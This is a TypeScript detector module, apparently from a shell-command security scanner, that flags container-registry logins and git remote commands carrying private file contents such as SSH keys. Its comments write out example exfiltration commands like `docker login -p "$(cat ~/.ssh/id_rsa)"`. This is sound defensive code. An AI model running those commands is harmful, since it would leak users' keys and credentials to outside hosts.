/**
 * Logins and remote git commands handed a private file's content in their words:
 * `docker login -p "$(cat ~/.ssh/id_rsa)" host`, `git -c http.extraHeader="$(cat key)" ls-remote URL`.
 * The registry or git host receives it, whoever runs that host. A variable (`-p "$CR_PAT"`) is
 * how a token reaches its own service, and stays quiet, as curl's headers do.
 */
import { secretInWord } from './secrets';
import type { CommandView, DetectorTable, HitSink } from './types';
import { splitOptions } from './types';
import { gitSubcommand } from './gitSubcommand';

/** Container tools whose `login` (helm's `registry login`) sends a password to a registry. */
const REGISTRY_CLIENTS = new Set([
  'docker',
  'podman',
  'nerdctl',
  'buildah',
  'skopeo',
  'helm',
  'oras',
  'crane',
]);
/** git subcommands that talk to a remote. */
const GIT_REMOTE = new Set(['clone', 'fetch', 'pull', 'push', 'ls-remote', 'archive', 'submodule', 'remote']);

function contacts(cmd: CommandView): boolean {
  if (cmd.name === 'git') return GIT_REMOTE.has(gitSubcommand(cmd.args)?.sub ?? '');
  const ops = splitOptions(cmd.args).operands;
  return (
    REGISTRY_CLIENTS.has(cmd.name) && (ops[0] === 'login' || (ops[0] === 'registry' && ops[1] === 'login'))
  );
}

/**
 * `cat ~/.docker/config.json | docker login --password-stdin`: a private file piped in as the
 * password. A printed token (`gh auth token | docker login …`) is how a token reaches its service.
 */
export function loginStdinSecret(cmd: CommandView, file: string, out: HitSink): void {
  if (cmd.name !== 'git' && contacts(cmd) && cmd.args.includes('--password-stdin'))
    out.hit('secret-exfiltration', `${file} piped to ${cmd.name} login`);
}

function loginSecret(cmd: CommandView, out: HitSink): void {
  if (!contacts(cmd)) return;
  const secret = cmd.words.map(secretInWord).find((s) => s !== null);
  if (secret) out.hit('secret-exfiltration', `${cmd.name} sends ${secret}`);
}

export const loginSecretDetectors: DetectorTable = [[['git', ...REGISTRY_CLIENTS], loginSecret]];
